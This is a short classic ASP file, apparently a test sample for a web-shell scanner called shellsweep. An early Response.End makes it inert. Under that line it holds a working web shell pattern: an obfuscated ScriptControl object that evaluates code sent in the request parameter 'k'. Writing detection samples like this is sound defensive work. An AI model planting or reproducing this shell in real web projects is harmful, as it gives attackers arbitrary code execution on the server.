<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
SET sc = server.CreateObject("MS"&chr(83)&"criptControl.ScriptControl.1")
sc.Language = "VBScript"
sc.AddObject "Response", Response
sc.AddObject "Request", Request
sc.ExecuteStatement("eval(request(" & chr(34) & "k" & chr(34) & "))")
%>
